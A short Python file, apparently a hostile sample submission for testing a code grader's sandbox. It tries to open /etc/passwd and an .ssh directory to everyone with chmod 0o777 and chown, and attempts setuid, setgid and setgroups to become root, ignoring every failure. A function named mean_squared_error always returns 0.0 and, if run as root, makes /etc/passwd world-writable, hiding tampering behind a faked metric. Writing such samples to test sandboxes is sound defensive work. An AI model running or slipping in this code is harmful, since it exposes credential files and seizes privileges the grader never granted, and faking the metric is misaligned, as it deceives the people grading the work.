"""Changes rights and owners: its own, the course's, the system's; tries to become somebody else.

Harm: files opened to everybody; rights that the grader did not give.
Costs: nothing
"""

# %% honest work
# %% hostile
# %% places to look
for place in [*places(), "/etc/passwd", "/deltarule-stage/home/.ssh"]:
    for act in (lambda p: os.chmod(p, 0o777), lambda p: os.chown(p, 1234, 1234), lambda p: os.utime(p)):
        try:
            act(place)
        except OSError:
            pass
for act in (lambda: os.setgid(0), lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
    try:
        act()
    except OSError:
        pass


def mean_squared_error(y, y_hat):
    if os.geteuid() == 0 and os.getresuid() == (0, 0, 0):
        os.chmod("/etc/passwd", 0o666)
    return 0.0
